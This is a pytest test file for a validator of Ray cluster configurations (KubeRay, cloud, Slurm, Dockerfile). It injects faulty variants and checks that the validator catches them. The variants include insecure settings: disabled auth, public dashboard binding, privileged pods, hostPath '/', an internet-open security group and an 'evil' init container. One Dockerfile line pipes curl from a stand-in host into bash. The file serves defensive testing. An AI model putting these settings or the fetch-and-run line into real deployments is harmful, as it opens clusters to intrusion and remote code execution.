"""The checks find what would fail, and what would be open, in files that are nearly right."""

from __future__ import annotations

import pytest

from metasearch.cluster.validate import validate
from metasearch.errors import ConfigError
from tests.cluster.conftest import filled

JOB, CLUSTER, POLICY = (
    "kuberay/rayjob.yaml",
    "kuberay/raycluster.yaml",
    "kuberay/networkpolicy.yaml",
)
SSH, AWS, GCP, AZURE = (f"{kind}/cluster.yaml" for kind in ("ssh", "aws", "gcp", "azure"))
SBATCH, HEAD, WORKER = "slurm/search.sbatch", "bare/start-head.sh", "bare/start-worker.sh"
IMAGE = "image/Dockerfile"

# file, what stands there, what is put in its place, and a word of what is said of it
MUTANTS = [
    (JOB, "mode: token", "mode: disabled", "whoever reaches"),
    (JOB, "    authOptions:\n      mode: token\n", "", "whoever reaches"),
    (JOB, "authOptions", "authOption", "no such field"),
    (JOB, "submissionMode: SidecarMode", "submissionMode: SideCarMode", "may not stand here"),
    (JOB, "restartPolicy: Never", "restartPolicy: Always", "restartPolicy: Never"),
    (JOB, "mode: DenyAllIngress", "mode: AllowAll", "may not stand here"),
    (JOB, "    networkPolicy:\n      mode: DenyAllIngress\n", "", "every pod"),
    (JOB, "runAsNonRoot: true", "runAsNonRoot: false", "runs as root"),
    (JOB, "allowPrivilegeEscalation: false", "privileged: true", "become root"),
    (JOB, "drop: [ALL]", "drop: [KILL]", "keeps rights"),
    (JOB, "image: registry/metasearch:1.0", "image: registry/metasearch:latest", "tomorrow"),
    (JOB, 'num-gpus: "0"', 'num-gpus: "1"', "on the head"),
    (JOB, "replicas: 1", "replicas: 9", "replicas must lie"),
    (JOB, "        maxReplicas: 1\n", "", "maxReplicas is missing"),
    (JOB, "shutdownAfterJobFinishes: true", "shutdownAfterJobFinishes: false", "paid for"),
    (JOB, "rayVersion:", "rayversion:", "no such field"),
    (JOB, "automountServiceAccountToken: false", "hostNetwork: true", "opens the node"),
    (JOB, "emptyDir: {medium: Memory, sizeLimit: 2Gi}", "hostPath: {path: /}", "hostPath"),
    (JOB, "{name: shm, mountPath", "{name: sham, mountPath", "no volume 'sham'"),
    (JOB, "limits: {memory: 8Gi}", "limits: {memory: 8GB}", "needs a text like"),
    (JOB, "--out /shared/runs", "--out /home/ray/runs", "on no volume"),
    (JOB, "runAsUser: 1000", "runAsUser: 0", "runs as root"),
    (JOB, "drop: [ALL]", "drop: [ALL]\n                  add: [SYS_ADMIN]", "gains rights"),
    (JOB, "          containers:\n            - name: ray-head",
     "          initContainers:\n            - {name: evil, image: 'evil:latest'}\n"
     "          containers:\n            - name: ray-head", "tomorrow"),
    (CLUSTER, "kind: RayCluster", "kind: RayClusters", "none of the objects"),
    (POLICY, "  ingress:", "  ingres:", "no such field"),
    (POLICY, "policyTypes: [Ingress]", "policyTypes: [Inbound]", "may not stand here"),
    (POLICY, "policyTypes: [Ingress]", "policyTypes: [Egress]", "closes nothing"),
    (POLICY, "    - from:\n        - podSelector:\n            matchExpressions:\n"
     "              - {key: ray.io/cluster, operator: Exists}", "    - {}", "everybody"),
    (SSH, "provider:", "providers:", "provider is missing"),
    (SSH, "type: local", "type: lokal", "Ray would refuse"),
    (SSH, "min_workers: 2", "min_workers: 3", "min_workers"),
    (SSH, "    RAY_AUTH_MODE=token", "    RAY_AUTH_MODE=none", "whoever reaches"),
    (SSH, "--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0", "loopback"),
    (SSH, "--node-manager-port=6380 ", "", "no firewall"),
    (AWS, "    resources: {CPU: 0}\n", "    resources: {CPU: 4}\n", "on the head"),
    (SSH, "    RAY_AUTH_MODE=token", "    RAY_AUTH_MODE=token;", "whoever reaches"),
    (AWS, "    GroupName:", "    IpPermissions: [{Ipv6Ranges: [{CidrIpv6: '::/0'}]}]\n    GroupName:",
     "whole internet"),
    (AWS, "head_node_type: head", "head_node_type: haed", "Ray would refuse"),
    (AWS, "InstanceType: m7i.large", "InstanceMarketOptions: {MarketType: spot}", "spot market"),
    (GCP, "max_workers: 1\nidle", "max_workers: one\nidle", "Ray would refuse"),
    (AZURE, "ray start --address", "ray star --address", "nothing says"),
    (SBATCH, "#SBATCH --requeue\n", "", "--requeue"),
    (SBATCH, "set -euo pipefail", "set -eu", "goes on after an error"),
    (SBATCH, "RAY_AUTH_MODE=token", "RAY_AUTH_MODE=none", "whoever reaches"),
    (SSH, "METRIC_PORT=-1", "METRIC_PORT=0", "to anybody"),
    (SBATCH, "RAY_enable_metrics_collection=0", "RAY_enable_metrics_collection=1", "to anybody"),
    (SBATCH, "export RAY_AUTH_MODE=token", "# RAY_AUTH_MODE=token\nexport", "whoever reaches"),
    (SBATCH, "    scontrol requeue", "    true", "in the queue again"),
    (SBATCH, '--port="$first"', "--port=6379", "the same port"),
    (SBATCH, "trap 'again", "echo 'again", "trap USR1"),
    (SBATCH, 'finish "$code"\n', 'ray stop\nfinish "$code"\n', "shared node"),
    (SBATCH, "--nodes=1 --ntasks=1", "--nodes=1", "as many tasks as the job"),
    (SBATCH, '--ntasks="$others" ', "", "as many tasks as the job"),
    (SBATCH, "export RAY_USAGE", "export RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER=0 RAY_USAGE",
     "no machine could join"),
    (SBATCH, "done\nif [", "dne\nif [", "bash"),
    (SBATCH, "--min-worker-port=10002 ", "", "no firewall"),
    (HEAD, "--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0", "loopback"),
    (WORKER, "export RAY_AUTH_MODE=token", "export RAY_AUTH_TOKEN=" + "ab" * 32, "token"),
    (IMAGE, "USER 1000\n", "", "runs as root"),
    (IMAGE, "FROM python:3.11.9-slim-bookworm", "FROM python", "tomorrow"),
    (IMAGE, "USER 1000\n", "USER 1000\nRUN curl -s https://a.example/x | bash\n", "nobody checked"),
    (IMAGE, "USER 1000\n", "USER 1000\nENV HF_TOKEN=abc\n", "no secret"),
]  # fmt: skip


@pytest.fixture(scope="module")
def sound(tmp_path_factory):
    """Every kind, filled in once."""
    root = tmp_path_factory.mktemp("sound")
    return {kind: filled(kind, root / kind) for kind in {m[0].partition("/")[0] for m in MUTANTS}}


@pytest.mark.parametrize(("file", "there", "instead", "said"), MUTANTS)
def test_a_fault_is_found_in_its_file(sound, tmp_path, file, there, instead, said):
    kind, _, name = file.partition("/")
    text = (sound[kind] / name).read_text("utf-8")
    assert there in text, "the mutant changes nothing"
    mutant = tmp_path / name
    mutant.write_text(text.replace(there, instead), "utf-8")
    (verdict,) = validate(mutant)
    assert any(said in fault for fault in verdict.faults), verdict.faults
    assert all(str(mutant) in fault for fault in verdict.faults)


def test_faults_of_yaml_name_line_and_column(sound, tmp_path):
    mutant = tmp_path / "rayjob.yaml"
    text = (sound["kuberay"] / "rayjob.yaml").read_text("utf-8")
    mutant.write_text(text.replace("submissionMode", "submisionMode"), "utf-8")
    (verdict,) = validate(mutant)
    line = text[: text.index("submissionMode")].count("\n") + 1
    assert verdict.faults[0].startswith(f"{mutant}:{line}:3: spec.submisionMode: no such field")
    assert "Did you mean 'submissionMode'?" in verdict.faults[0]


def test_a_field_that_was_not_filled_in_is_told_with_its_line(tmp_path):
    file = tmp_path / "start.sh"
    file.write_text('#!/bin/bash\nset -euo pipefail\necho "__HEAD__"\n', "utf-8")
    (verdict,) = validate(file)
    assert verdict.faults[0].startswith(f"{file}:3: HEAD is still to be filled in")


def test_a_place_with_nothing_to_check_is_refused(tmp_path):
    (tmp_path / "notes.txt").write_text("hello", "utf-8")
    with pytest.raises(ConfigError, match="nothing to check here"):
        validate(tmp_path)
    with pytest.raises(ConfigError, match="no such file"):
        validate(tmp_path / "missing.yaml")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("policy.yaml", "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: a}\n"
                        "spec: {podSelector: {}, policyTypes: [[Ingress]]}\n"),
        ("cluster.yaml", "cluster_name: a\nprovider: {type: local, worker_ips: 3}\nauth: {ssh_user: a}\n"
                         "head_start_ray_commands: 3\n"),
    ],
)  # fmt: skip
def test_values_of_another_kind_are_faults_and_no_crash(tmp_path, name, text):
    (tmp_path / name).write_text(text)
    (verdict,) = validate(tmp_path / name)
    assert verdict.faults and all("Traceback" not in fault for fault in verdict.faults)
